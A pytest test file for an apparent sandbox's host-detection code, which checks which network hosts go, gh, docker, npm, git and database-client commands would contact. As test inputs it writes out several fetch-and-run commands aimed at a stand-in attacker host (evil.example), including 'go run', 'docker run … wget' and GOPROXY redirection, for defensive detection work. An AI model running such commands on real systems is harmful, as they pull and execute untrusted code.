import itertools

import pytest

from enclosure.integrations._shell import parse
from enclosure.integrations._shell_hosts import (
    _NAMING,
    UNKNOWN,
    env_hosts,
    program_hosts,
)

CWD = "/work/proj"
HOME = "/home/u"


def hosts(line: str) -> list[str]:
    return [h for c in parse(line, CWD, HOME).commands for h in c.hosts]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        # go: a module path's first element, when it names a host
        ("go get evil.example/x@latest", ["evil.example"]),
        ("go get -u EVIL.example/x", ["evil.example"]),
        ("go install -v evil.example/cmd/x@latest", ["evil.example"]),
        ("go mod download evil.example/x@v1.0.0", ["evil.example"]),
        ("go run evil.example/x@latest", ["evil.example"]),
        ("go list -m evil.example/x@latest", ["evil.example"]),
        ("go get -modfile alt.mod evil.example/x", ["evil.example"]),
        ("go get $MOD", [UNKNOWN]),
        (
            "GOPROXY=evil.example,direct go get github.com/x/y",
            ["github.com", "evil.example"],
        ),
        ("GOSUMDB=evil.example go get github.com/x/y", ["github.com", "evil.example"]),
        (
            "GOSUMDB='sum.example+key https://evil.example' go get a.example/y",
            ["a.example", "evil.example"],
        ),
        # gh: GitHub's API, or the host it is told
        ("gh api /user", ["api.github.com"]),
        ("gh api --hostname evil.example /user", ["evil.example"]),
        ("gh api --hostname=evil.example /user", ["evil.example"]),
        ("gh auth login --hostname evil.example", ["evil.example"]),
        ("gh pr list -R evil.example/o/r", ["evil.example"]),
        ("gh pr list --repo=evil.example/o/r", ["evil.example"]),
        ("gh repo clone evil.example/o/r", ["evil.example"]),
        ("GH_HOST=evil.example gh pr list", ["evil.example"]),
        ("env GH_HOST=evil.example gh api x", ["api.github.com", "evil.example"]),
        ("export GH_HOST=evil.example; gh pr list", ["evil.example"]),
        ("GH_HOST=evil.example; gh pr list", ["evil.example"]),
        # container engines: the registry of the image pulled, run or pushed
        ("docker pull evil.example/img", ["evil.example"]),
        ("docker pull registry.example:5000/img:tag", ["registry.example"]),
        ("docker pull localhost:5000/img", ["localhost"]),
        ("docker pull python:3.12", ["docker.io"]),
        ("docker pull library/python", ["docker.io"]),
        ("docker run --rm -it -e A=1 --name n evil.example/x", ["evil.example"]),
        ("docker run -dp 80:80 evil.example/x", ["evil.example"]),
        ("docker run -v ./src:/src -w /src python:3.12 pytest", ["docker.io"]),
        ("docker -H unix:///x image pull evil.example/x", [UNKNOWN, "evil.example"]),
        ("docker --context c container run evil.example/x", ["evil.example"]),
        ("docker push evil.example/img", ["?"]),  # every push asks
        ("docker plugin install evil.example/p", ["evil.example"]),
        ("docker login evil.example", ["evil.example"]),
        ("docker run $IMAGE", [UNKNOWN]),
        ("nerdctl pull evil.example/x", ["evil.example"]),
        ("podman pull evil.example/x", ["evil.example"]),
        ("podman run alpine", [UNKNOWN]),
        ("podman load -i docker-archive:x.tar", []),
        ("podman run oci:./dir", []),
        # npm's hosted-git shortcuts
        ("npm install gitlab:o/r", ["gitlab.com"]),
        ("npx gitlab:o/r", ["gitlab.com"]),
        ("pnpm add bitbucket:o/r", ["bitbucket.org"]),
        ("yarn add gist:abc", ["gist.github.com"]),
        # hosts in a file the reader never opens
        ("git submodule update --init --recursive", [UNKNOWN]),
        ("git clone --recursive https://github.com/x/y", ["github.com", UNKNOWN]),
        ("git pull --recurse-submodules", [UNKNOWN]),
        ("cargo install --registry corp x", [UNKNOWN]),
        # pushed where the reader can see, or where a file says
        ("docker buildx build --push -t evil.example/img .", ["?"]),
        ("docker build --tag=evil.example/img --push .", ["?"]),
        ("docker buildx build -o type=registry,name=e.example/i .", [UNKNOWN]),
        ("docker compose push", [UNKNOWN]),
        ("gh extension install evil.example/o/gh-x", ["evil.example"]),
        ("GH_REPO=evil.example/o/r gh pr list", ["evil.example"]),
        # an option read wrongly hides no registry: any qualified reference counts
        ("podman --cgroup-manager systemd pull evil.example/x", ["evil.example"]),
        ("docker run --some-new-flag evil.example/x", ["evil.example"]),
        ("docker run alpine wget evil.example/x", ["docker.io", "evil.example"]),
    ],
)
def test_hosts_written_without_a_scheme_are_found(line: str, expected: list[str]):
    assert hosts(line) == expected


@pytest.mark.parametrize(
    "line",
    [
        "go build ./...",
        "go get",
        "go get ./...",
        "go install ./cmd/x",
        "go run main.go",
        "go run ./cmd/x",
        "go mod tidy",
        "go list -m all",
        "go build -o bin/app.exe ./cmd/app",
        "docker ps",
        "docker images",
        "docker build -t evil.example/app .",
        "docker compose up -d",
        "docker tag a evil.example/b",
        "docker buildx build -t evil.example/app .",
        "gh pr list",
        "gh run list -R o/r",
        "gh repo clone o/r",
        "gh repo clone o/r ./a/b",
        "GH_REPO=o/r gh pr list",
        "npm install lodash",
        "npm run build",
        "git submodule status",
        "git clone --recurse-submodules=no ./x y",
        "cargo install ripgrep",
    ],
)
def test_commands_that_name_no_host_name_none(line: str):
    assert hosts(line) == []


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["psql", "-h", "db.example", "-d", "app"], ["db.example"]),
        (["psql", "-hdb.example"], ["db.example"]),
        (["psql", "--host=db.example"], ["db.example"]),
        (["psql", "host=db.example dbname=app"], ["db.example"]),
        (["psql", "-h", "a.example,b.example"], ["a.example", "b.example"]),
        (["mysql", "-h", "Evil.Example", "app"], ["evil.example"]),
        (["mysqldump", "--host", "db.example", "app"], ["db.example"]),
        (["redis-cli", "-h", "cache.example"], ["cache.example"]),
        (["mongosh", "--host", "m.example"], ["m.example"]),
        (["psql", "-h", "$DB_HOST"], [UNKNOWN]),
        (["psql", "-h", "localhost", "-d", "app"], []),  # on this machine
        (["psql", "-h", "127.0.0.1"], []),
        (["psql", "-h", "/var/run/postgresql"], []),  # a socket directory
        (["psql", "-d", "app", "-c", "select 1"], []),
    ],
)
def test_database_clients_name_the_hosts_they_connect_to(argv, expected):
    assert program_hosts(argv) == expected


def test_program_hosts_reads_an_argv_without_its_wrappers():
    assert program_hosts(["go", "get", "evil.example/x"]) == ["evil.example"]
    assert program_hosts(["ls", "evil.example/x"]) == []


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        (["GH_HOST=Evil.Example"], ["evil.example"]),
        (["GOPROXY=https://evil.example,direct"], []),  # a URL: read elsewhere
        (["GOPROXY=off"], []),
        (["GOPROXY=a.example|b.example"], ["a.example", "b.example"]),
        (["GOSUMDB=off"], []),
        (["GH_HOST=$H"], [UNKNOWN]),
        (["GH_HOST="], []),
        (["GOSUMDB= "], [UNKNOWN]),
        (["GH_REPO=//"], [UNKNOWN]),
        (["OTHER=evil.example"], []),
        (["GH_HOST+=evil.example"], ["evil.example"]),
        (["PIP_INDEX_URL=$U"], [UNKNOWN]),
        (["npm_config_registry=`cat r`"], [UNKNOWN]),
        (["PIP_INDEX_URL=https://pypi.example/simple"], []),  # a URL: read elsewhere
        (["PIP_NO_INDEX=$X"], [UNKNOWN]),
        (["PIP_FIND_LINKS=$U"], [UNKNOWN]),  # the seventh review's
        (["UV_FIND_LINKS=$U"], [UNKNOWN]),
        (["RUSTUP_DIST_SERVER=$S"], [UNKNOWN]),
        (["PIP_TRUSTED_HOST=$H"], [UNKNOWN]),
        (["PIP_CONFIG_FILE=$F"], [UNKNOWN]),
        (["PIP_CONFIG_FILE=./pip.conf"], [UNKNOWN]),  # its indexes are unseen
        (["PIP_CONFIG_FILE=/dev/null"], []),
        (["DATABASE_URL=$DB"], []),
    ],
)
def test_env_hosts_reads_the_variables_that_name_a_host(words, expected):
    assert env_hosts(words) == expected


WORDS = ["", "-", "--", "-t", "--tag", "run", "pull", "api", "build", "--push"]
WORDS += ["submodule", "update", "a.b/c@v", "$X", "=", "x=y", "--hostname", "-R"]


@pytest.mark.parametrize("program", sorted(_NAMING))
def test_any_argv_gives_a_list_of_hosts_and_never_raises(program: str):
    for n in range(4):
        for args in itertools.product(WORDS, repeat=n):
            found = program_hosts([program, *args])
            assert all(isinstance(h, str) and h for h in found)


VALUES = ["", " ", "\t", "off", "direct", "|", ",", "a b", "a+b c", "//", "$X", "["]
VALUES += ["a:b:c", "https://x", "x/y/z", "[::1]:1", "a,,b|c"]


@pytest.mark.parametrize("name", ["GH_HOST", "GH_REPO", "GOPROXY", "GOSUMDB", "X"])
def test_any_value_gives_a_list_of_hosts_and_never_raises(name: str):
    for one, two in itertools.product(VALUES, repeat=2):
        found = env_hosts([f"{name}={one}{two}"])
        assert all(isinstance(h, str) and h for h in found)
